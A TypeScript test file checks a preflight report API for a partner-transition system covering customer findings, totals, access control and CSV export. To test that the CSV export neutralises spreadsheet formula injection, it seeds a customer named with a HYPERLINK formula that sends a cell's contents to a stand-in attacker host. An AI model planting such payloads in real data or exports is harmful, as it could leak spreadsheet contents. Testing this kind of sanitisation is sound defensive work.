import { parse } from 'csv-parse/sync';
import supertest from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { preflightCodeList, preflightCodes } from '../src/engine/preflight.ts';
import { buildCustomer, buildPartner, buildProfile, createPartnerTeam } from './factories.ts';
import { as, startHarness, type Harness } from './harness.ts';
import { Move, type Provider, type Workflow } from './move.ts';

interface Finding {
  code: string;
  severity: string;
  subscriptionId?: string;
  detail: string;
}
interface Preflight {
  transitionId: string;
  partnerId: string;
  state: string;
  providerId: string | null;
  asOf: string;
  region: { code: string; source: string };
  partnerFindings: Finding[];
  customers: Array<{ customerId: string; name: string; tenantId: string; findings: Finding[] }>;
  totals: {
    customers: number;
    customersBlocked: number;
    bySeverity: Record<string, number>;
    byCode: Record<string, number>;
  };
}

let h: Harness;
let move: Move;
/** A provider the partner asked for a partnership too, but did not choose. */
let asked: Provider;
/** A provider with nothing to do with this move. */
let stranger: Provider;
let otherManager: string;
let enrollmentId: string;

const hostileName = '=HYPERLINK("https://evil.example/?d="&A1,"Open"),\n+1';
/** Customers by their part in the seed, to their ids. */
const ids: Record<string, string> = {};
let uid = 0;
const sid = (name: string) => `${name}-${Date.now() % 100_000}-${++uid}`;
const subs: Record<string, string> = {};

/** A subscription of the seed, its id unique to the run and remembered under `key`. */
function sub(key: string, fields: Record<string, unknown> = {}) {
  subs[key] = key.startsWith('@') || key.startsWith('-') ? `${key}${sid('')}` : sid(key);
  return { id: subs[key], offer: `Offer ${key}`, kind: 'nce_license', quantity: 5, ...fields };
}

/** Today on the test clock, moved by `days`, as YYYY-MM-DD. */
function day(days: number): string {
  return new Date(h.clock.now().getTime() + days * 86_400_000).toISOString().slice(0, 10);
}

/**
 * Ten direct-bill customers, each standing for some of the codes, and one the partner serves
 * as an indirect reseller already, which the preflight leaves out.
 */
function seed() {
  return {
    clean: buildCustomer({
      name: 'Clean Ltd',
      mcaAcceptance: 'admin_center',
      subscriptions: [sub('clean-e3'), sub('clean-azure', { kind: 'azure_plan' })],
    }),
    abroad: buildCustomer({
      name: 'Abroad SARL',
      mcaAcceptance: 'admin_center',
      billTo: { companyName: 'Abroad SARL', email: 'ap@abroad.example', country: 'FR' },
      subscriptions: [sub('abroad-e3')],
    }),
    legacyAzure: buildCustomer({
      name: 'Legacy Azure AG',
      mcaAcceptance: 'admin_center',
      subscriptions: [sub('la-e3'), sub('la-azure', { kind: 'legacy_azure' })],
    }),
    legacyLicense: buildCustomer({
      name: 'Legacy License GmbH',
      mcaAcceptance: 'admin_center',
      subscriptions: [
        sub('ll-e1', { kind: 'legacy_license' }),
        sub('ll-addon', { baseSubscriptionId: subs['ll-e1'] }),
      ],
    }),
    marketplace: buildCustomer({
      name: 'Marketplace KG',
      mcaAcceptance: 'admin_center',
      subscriptions: [
        sub('mp-no', { kind: 'marketplace_saas' }),
        sub('mp-yes', {
          kind: 'marketplace_saas',
          transferEligible: true,
          billingCycle: 'monthly',
        }),
      ],
    }),
    inactive: buildCustomer({
      name: 'Inactive OHG',
      mcaAcceptance: 'admin_center',
      subscriptions: [
        sub('in-suspended', { status: 'suspended' }),
        sub('in-trial', { status: 'trial' }),
        sub('in-expired', { status: 'expired' }),
        sub('in-addon', { baseSubscriptionId: subs['in-suspended'] }),
      ],
    }),
    mcaNone: buildCustomer({
      name: 'No MCA eG',
      mcaAcceptance: 'none',
      subscriptions: [sub('none-e3')],
    }),
    gdap: buildCustomer({
      name: 'Needs Admin SE',
      mcaAcceptance: 'partner_attestation',
      providerNeedsAdmin: true,
      subscriptions: [sub('gdap-e3')],
    }),
    azureExtras: buildCustomer({
      name: 'Azure Extras AG',
      mcaAcceptance: 'admin_center',
      subscriptions: [
        sub('ax-ri', {
          kind: 'azure_reservation',
          termEndDate: day(3),
          billingCycle: 'annual',
        }),
        sub('ax-sp', { kind: 'azure_savings_plan', billingCycle: 'triennial' }),
        sub('ax-sw', { kind: 'software', billingCycle: 'one_time' }),
      ],
    }),
    hostile: buildCustomer({
      name: hostileName,
      mcaAcceptance: 'admin_center',
      subscriptions: [sub('@evil', { termEndDate: day(0) }), sub('-1+1', { status: 'trial' })],
    }),
    indirect: buildCustomer({
      name: 'Already Indirect',
      acquiredAs: 'indirect_reseller',
      mcaAcceptance: 'none',
      subscriptions: [sub('ind-e3', { status: 'trial' })],
    }),
  };
}

/** What each customer of the seed is expected to show before anything moves. */
function expectedBefore(): Record<string, string[]> {
  return {
    clean: [],
    abroad: ['customer_region_mismatch'],
    legacyAzure: [`legacy_azure_blocks_transfer@${subs['la-azure']}`],
    legacyLicense: [
      `legacy_subscription_requires_migration@${subs['ll-e1']}`,
      `addon_without_base@${subs['ll-addon']}`,
    ],
    marketplace: [
      `marketplace_not_transferable@${subs['mp-no']}`,
      `marketplace_saas_transfers@${subs['mp-yes']}`,
    ],
    inactive: [
      `subscription_not_active@${subs['in-suspended']}`,
      `subscription_not_active@${subs['in-trial']}`,
      `subscription_not_active@${subs['in-expired']}`,
      `addon_without_base@${subs['in-addon']}`,
    ],
    mcaNone: ['mca_acceptance_required'],
    gdap: ['mca_acceptance_required', 'gdap_required'],
    azureExtras: [
      `term_ending_soon@${subs['ax-ri']}`,
      `azure_reservation_transfers@${subs['ax-ri']}`,
      `azure_savings_plan_transfers@${subs['ax-sp']}`,
      `software_transfers@${subs['ax-sw']}`,
    ],
    hostile: [`term_ending_soon@${subs['@evil']}`, `subscription_not_active@${subs['-1+1']}`],
  };
}

const codesOf = (findings: Finding[]) =>
  findings.map((f) => (f.subscriptionId ? `${f.code}@${f.subscriptionId}` : f.code));

/** The findings of each customer of the seed, by its part, as `code@subscription`. */
function byPart(report: Preflight): Record<string, string[]> {
  const part = new Map(Object.entries(ids).map(([k, v]) => [v, k]));
  return Object.fromEntries(
    report.customers.map((c) => [part.get(c.customerId) ?? c.customerId, codesOf(c.findings)]),
  );
}

async function preflight(token: string, id = move.transitionId): Promise<Preflight> {
  const res = await as(h.app, token).get(`/v1/transitions/${id}/preflight`);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  expect(res.headers['content-type']).toMatch(/^application\/json/);
  return res.body as Preflight;
}

async function preflightCsv(token: string): Promise<{ text: string; rows: string[][] }> {
  const res = await supertest(h.app)
    .get(`/v1/transitions/${move.transitionId}/preflight`)
    .set('Authorization', `Bearer ${token}`)
    .set('Accept', 'text/csv');
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  return { text: res.text, rows: parse(res.text, { relax_column_count: false }) };
}

function status(token: string | undefined, id = move.transitionId): Promise<number> {
  const req = supertest(h.app).get(`/v1/transitions/${id}/preflight`);
  return (token ? req.set('Authorization', `Bearer ${token}`) : req).then((r) => r.status);
}

const everySeverityRight = (report: Preflight) => {
  for (const f of [...report.partnerFindings, ...report.customers.flatMap((c) => c.findings)]) {
    expect(f.severity, f.code).toBe(preflightCodes[f.code as keyof typeof preflightCodes]);
    expect(f.detail.length).toBeGreaterThan(10);
  }
};

/** Every code seen across the reports of this file, to check that each appears at least once. */
const seen = new Set<string>();
const remember = (report: Preflight) => {
  for (const f of [...report.partnerFindings, ...report.customers.flatMap((c) => c.findings)])
    seen.add(f.code);
};

beforeAll(async () => {
  h = await startHarness();
  // The PLA is not verified on the partner: the enrollment's profile will say it is.
  move = await Move.start(
    h.app,
    h.adminToken,
    buildPartner({ profile: buildProfile({ plaVerified: false }) }),
  );
  const parts = seed();
  const imported = await move.importCustomers(Object.values(parts));
  Object.keys(parts).forEach((k, i) => (ids[k] = imported[i]!));
  asked = await Move.provider(h.app, h.adminToken, 'DE');
  stranger = await Move.provider(h.app, h.adminToken, 'DE');
  otherManager = (await createPartnerTeam(h.app, h.adminToken)).manager;
});
afterAll(async () => h.close());

describe('preflight in preparation', () => {
  it('when nothing has moved yet, then every direct-bill customer is listed in import order with its findings, and the partner is not ready to be partner of record', async () => {
    const report = await preflight(move.team.manager);
    remember(report);
    everySeverityRight(report);
    expect(report).toMatchObject({
      transitionId: move.transitionId,
      partnerId: move.team.partnerId,
      state: 'preparation',
      providerId: null,
      asOf: '2026-03-02',
      region: { code: 'DE', source: 'partner' },
    });
    expect(report.customers.map((c) => c.customerId)).toEqual(
      Object.entries(ids)
        .filter(([k]) => k !== 'indirect')
        .map(([, v]) => v),
    );
    expect(byPart(report)).toEqual(expectedBefore());
    expect(report.partnerFindings).toEqual([
      expect.objectContaining({ code: 'partner_of_record_not_ready', severity: 'blocker' }),
    ]);
    const abroad = report.customers.find((c) => c.customerId === ids.abroad)!;
    expect(abroad.findings[0]?.detail).toContain('FR');
    expect(report.customers.find((c) => c.customerId === ids.hostile)?.name).toBe(hostileName);
  });

  it('when findings are counted, then the totals agree with the lists, by code and by severity', async () => {
    const report = await preflight(move.team.globalAdmin);
    const all = [...report.partnerFindings, ...report.customers.flatMap((c) => c.findings)];
    expect(report.totals.customers).toBe(10);
    // Abroad, legacy Azure, legacy license, marketplace, inactive, hostile (a trial).
    expect(report.totals.customersBlocked).toBe(6);
    for (const code of preflightCodeList) {
      expect(report.totals.byCode[code], code).toBe(all.filter((f) => f.code === code).length);
    }
    expect(report.totals.bySeverity).toEqual({
      blocker: all.filter((f) => f.severity === 'blocker').length,
      action: all.filter((f) => f.severity === 'action').length,
      info: all.filter((f) => f.severity === 'info').length,
    });
    expect(report.totals.bySeverity).toEqual({ blocker: 11, action: 3, info: 6 });
  });

  it('when asked for CSV, then one row per finding with the header, hostile names and ids disarmed and intact otherwise', async () => {
    const json = await preflight(move.team.manager);
    const { text, rows } = await preflightCsv(move.team.manager);
    const [header, ...body] = rows;
    expect(header).toEqual([
      'customerId',
      'customerName',
      'tenantId',
      'code',
      'severity',
      'subscriptionId',
      'detail',
    ]);
    const disarm = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
    const expected = [
      ...json.partnerFindings.map((f) => ['', '', '', f.code, f.severity, '', f.detail]),
      ...json.customers.flatMap((c) =>
        c.findings.map((f) => [
          c.customerId,
          disarm(c.name),
          c.tenantId,
          f.code,
          f.severity,
          disarm(f.subscriptionId ?? ''),
          f.detail,
        ]),
      ),
    ];
    expect(body).toEqual(expected);
    for (const row of body) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
    const hostileRows = body.filter((r) => r[0] === ids.hostile);
    expect(hostileRows.map((r) => r[1])).toEqual([`'${hostileName}`, `'${hostileName}`]);
    expect(hostileRows.map((r) => r[5])).toEqual([`'${subs['@evil']}`, `'${subs['-1+1']}`]);
    // The name's quotes, comma and line break stay inside one quoted cell.
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open""),\n+1"`);
  });

  it('when no provider is chosen, then a provider, even one that may read the transition later, is not let in', async () => {
    expect(await status(asked.token)).toBe(404);
    expect(await status(stranger.token)).toBe(404);
  });
});

describe('who may read it', () => {
  it('when the caller is the partner, an auditor or an admin, then 200; another partner or no token, not', async () => {
    expect(await status(move.team.manager)).toBe(200);
    expect(await status(move.team.globalAdmin)).toBe(200);
    expect(await status(move.team.auditor)).toBe(200);
    expect(await status(h.adminToken)).toBe(200);
    expect(await status(otherManager)).toBe(404);
    expect(await status(undefined)).toBe(401);
  });

  it('when the id is unknown or a workflow of another machine, then 404', async () => {
    expect(await status(h.adminToken, 'wf_unknown')).toBe(404);
    const enrollments = await move.children('machine=enrollment');
    if (enrollments[0]) expect(await status(h.adminToken, enrollments[0].id)).toBe(404);
    const res = await as(h.app, h.adminToken).get('/v1/transitions/wf_unknown/preflight');
    expect(res.body).toMatchObject({ code: 'not_found' });
  });
});

describe('preflight as the move goes on', () => {
  it("when the enrollment's profile says the PLA is verified, then it wins over the partner's, and the PartnerID is named", async () => {
    await move.send(move.team.manager, move.transitionId, { type: 'CONFIRM_PROFILE' });
    await move.send(move.team.globalAdmin, move.transitionId, {
      type: 'NEW_TENANT_REGISTERED',
      tenantId: crypto.randomUUID(),
    });
    const [enrollment] = await move.children('machine=enrollment');
    enrollmentId = enrollment!.id;
    const enrolling = await preflight(move.team.manager);
    expect(enrolling.state).toBe('enrolling');
    expect(codesOf(enrolling.partnerFindings)).toEqual(['partner_of_record_not_ready']);
    expect(await status(h.adminToken, enrollmentId)).toBe(404);

    await move.send(move.team.manager, enrollmentId, { type: 'UPDATE_PROFILE', plaVerified: true });
    const ready = await preflight(move.team.manager);
    remember(ready);
    expect(ready.partnerFindings).toEqual([
      expect.objectContaining({ code: 'partner_of_record_ready', severity: 'info' }),
    ]);
    const partner = await as(h.app, h.adminToken).get(`/v1/partners/${move.team.partnerId}`);
    expect(ready.partnerFindings[0]?.detail).toContain((partner.body as { mpnId: string }).mpnId);
  });

  it('when a provider is chosen, then the region is its own, it reads the preflight without the bill-to country, and one only asked gets 403', async () => {
    const { globalAdmin, manager } = move.team;
    await move.send(globalAdmin, enrollmentId, { type: 'SUBMIT' });
    await move.send(h.adminToken, enrollmentId, { type: 'APPROVE' });
    await move.send(globalAdmin, enrollmentId, {
      type: 'ACCEPT_AGREEMENT',
      agreementVersion: 'MPA-2026',
    });
    await move.send(manager, move.transitionId, {
      type: 'PARTNERSHIP_REQUESTED',
      providerId: asked.id,
    });
    // Asked, the provider may read the transition, but not the customers in its preflight.
    expect(await status(asked.token)).toBe(403);
    await move.toInvitationSent();
    expect(await status(move.provider.token)).toBe(403);
    await move.send(globalAdmin, move.transitionId, {
      type: 'PROVIDER_INVITATION_ACCEPTED',
      providerId: move.provider.id,
    });

    const report = await preflight(move.provider.token);
    remember(report);
    everySeverityRight(report);
    expect(report).toMatchObject({
      state: 'migratingCustomers',
      providerId: move.provider.id,
      region: { code: 'DE', source: 'provider' },
    });
    expect(byPart(report)).toEqual(expectedBefore());
    const abroad = report.customers.find((c) => c.customerId === ids.abroad)!;
    expect(abroad.findings[0]?.code).toBe('customer_region_mismatch');
    expect(abroad.findings[0]?.detail).not.toContain('FR');
    // Withheld everywhere the provider looks: in the CSV too, and no bill-to field at all.
    const csv = await preflightCsv(move.provider.token);
    const abroadRows = csv.rows.filter((r) => r[0] === ids.abroad);
    expect(abroadRows.length).toBe(1);
    expect(abroadRows[0]![6]).not.toContain('FR');
    for (const text of [JSON.stringify(report), csv.text]) {
      expect(text).not.toContain('ap@abroad.example');
      expect(text).not.toContain('billing-');
    }
    // The partner's own people still see the country.
    const own = await preflight(manager);
    expect(own.customers.find((c) => c.customerId === ids.abroad)!.findings[0]?.detail).toContain(
      'FR',
    );

    expect(await status(asked.token)).toBe(403);
    expect(await status(stranger.token)).toBe(404);
    expect(await status(move.team.auditor)).toBe(200);
    expect(await status(otherManager)).toBe(404);
  });

  it('when a customer is billed outside the region, then the relationship is refused as the preflight said, and the provider never learns the country', async () => {
    const relationship = await move.childOf('resellerRelationship', ids.abroad!);
    const finding = (report: Preflight) =>
      report.customers
        .find((c) => c.customerId === ids.abroad)!
        .findings.find((f) => f.code === 'customer_region_mismatch');
    expect(finding(await preflight(move.provider.token))?.detail).not.toContain('FR');
    for (const type of ['USE_EXTENSION', 'USE_INVITATION']) {
      const refused = await as(h.app, move.team.manager)
        .post(`/v1/workflows/${relationship.id}/events`)
        .send({ type });
      expect(refused.body).toMatchObject({ status: 422, code: 'customer_region_mismatch' });
    }
    // Refused, the bill-to was never handed over: the provider's view still withholds it.
    expect(finding(await preflight(move.provider.token))?.detail).not.toContain('FR');
  });

  it('when GDAP, the MCA, a migration, an exclusion and a whole transfer are done, then their findings go, and moved or excluded customers leave the list', async () => {
    const { manager } = move.team;
    const provider = move.provider.token;
    // GDAP: by invitation; resolved once the relationship is established.
    const gdap = await move.childOf('resellerRelationship', ids.gdap!);
    await move.send(manager, gdap.id, { type: 'USE_INVITATION' });
    let report = await preflight(manager);
    const gdapFinding = report.customers
      .find((c) => c.customerId === ids.gdap)!
      .findings.find((f) => f.code === 'gdap_required');
    expect(gdapFinding?.detail).toContain('invitationSent');
    await move.send(manager, gdap.id, { type: 'INVITATION_ACCEPTED' });
    await move.send(provider, gdap.id, {
      type: 'GDAP_REQUESTED',
      roles: ['Helpdesk Administrator'],
      durationDays: 365,
    });
    await move.send(manager, gdap.id, { type: 'GDAP_APPROVED' });
    report = await preflight(manager);
    expect(
      report.customers.find((c) => c.customerId === ids.gdap)!.findings.map((f) => f.code),
    ).toContain('gdap_required');
    await move.send(provider, gdap.id, { type: 'GDAP_ACTIVATED' });
    // MCA: asked, then recorded by the provider.
    const mca = await move.childOf('mcaReacceptance', ids.gdap!);
    await move.send(manager, mca.id, { type: 'ACCEPTANCE_REQUESTED' });
    report = await preflight(manager);
    expect(byPart(report).gdap).toEqual(['mca_acceptance_required']);
    await move.send(provider, mca.id, {
      type: 'ACCEPTANCE_RECORDED',
      acceptedBy: { firstName: 'Nia', lastName: 'Admin', email: 'nia@needsadmin.example' },
      dateAgreed: '2026-03-01',
    });

    // The legacy license migrated to new commerce under a new id: its add-on can go too.
    const legacy = await move.childOf('resellerRelationship', ids.legacyLicense!);
    await move.send(manager, legacy.id, { type: 'USE_INVITATION' });
    await move.send(manager, legacy.id, { type: 'INVITATION_ACCEPTED' });
    const transfer = await move.childOf('subscriptionTransfer', ids.legacyLicense!);
    await move.send(manager, transfer.id, { type: 'CUSTOMER_AGREED' });
    await move.send(manager, transfer.id, {
      type: 'SUBSCRIPTION_MIGRATED',
      subscriptionId: subs['ll-e1'],
      newSubscriptionId: `${subs['ll-e1']}-nce`,
    });

    // The customer abroad is left out; the clean one moves whole.
    await move.send(manager, move.transitionId, {
      type: 'EXCLUDE_CUSTOMER',
      customerId: ids.abroad,
      reason: 'billed outside the region',
    });
    await moveWhole(ids.clean!, [subs['clean-e3']!, subs['clean-azure']!]);

    report = await preflight(manager);
    remember(report);
    everySeverityRight(report);
    const expected = expectedBefore();
    delete expected.abroad;
    delete expected.clean;
    expect(byPart(report)).toEqual({ ...expected, gdap: [], legacyLicense: [] });
    expect(report.totals.customers).toBe(8);
  });

  it('when the transition is cancelled, then the preflight still reports on who was left', async () => {
    await move.send(move.team.globalAdmin, move.transitionId, {
      type: 'CANCEL',
      reason: 'paused for the quarter',
    });
    const report = await preflight(move.team.auditor);
    expect(report.state).toBe('cancelled');
    expect(report.totals.customers).toBe(8);
    expect(await status(move.provider.token)).toBe(200);
    expect(await status(asked.token)).toBe(403);
  });

  it('when every report of this file is put together, then every code appeared at least once', () => {
    expect([...seen].sort()).toEqual([...preflightCodeList].sort());
  });
});

describe('a completed transition', () => {
  it('when every customer is moved, then the preflight lists none, only the partner', async () => {
    const done = await Move.start(h.app, h.adminToken);
    const [only] = await done.importCustomers([
      buildCustomer({ mcaAcceptance: 'admin_center', subscriptions: [sub('done-e3')] }),
    ]);
    await done.toMigrating();
    await moveWhole(only!, [subs['done-e3']!], done);
    expect((await done.get(done.transitionId)).state).toBe('completed');
    const report = await preflight(done.team.manager, done.transitionId);
    expect(report.state).toBe('completed');
    expect(report.customers).toEqual([]);
    expect(codesOf(report.partnerFindings)).toEqual(['partner_of_record_ready']);
    expect(report.totals).toMatchObject({ customers: 0, customersBlocked: 0 });
  });
});

/** A customer's relationship, MCA (kept from the admin center) and every subscription moved. */
async function moveWhole(customerId: string, subscriptionIds: string[], m = move): Promise<void> {
  const { manager } = m.team;
  const provider = m.provider.token;
  const relationship = await m.childOf('resellerRelationship', customerId);
  await m.send(manager, relationship.id, { type: 'USE_INVITATION' });
  await m.send(manager, relationship.id, { type: 'INVITATION_ACCEPTED' });
  const transfer: Workflow = await m.childOf('subscriptionTransfer', customerId);
  const { tenantId, mpnId } = (
    await as(h.app, h.adminToken).get(`/v1/partners/${m.team.partnerId}`)
  ).body as { tenantId: string; mpnId: string };
  await m.send(manager, transfer.id, { type: 'CUSTOMER_AGREED' });
  await m.send(provider, transfer.id, { type: 'DETAILS_CONFIRMED', subscriptionIds });
  await m.send(provider, transfer.id, {
    type: 'TRANSFER_REQUEST_CREATED',
    customerEmail: 'it@customer.example',
    sourcePartnerTenantId: tenantId,
    partnerOnRecord: mpnId,
  });
  await m.send(manager, transfer.id, { type: 'TRANSFER_SUBMITTED', subscriptionIds });
  for (const id of subscriptionIds) {
    await m.send(provider, transfer.id, {
      type: 'SUBSCRIPTION_TRANSFERRED',
      subscriptionId: id,
      newSubscriptionId: `new-${id}`,
    });
  }
  expect((await m.get(transfer.id)).state).toBe('completed');
}
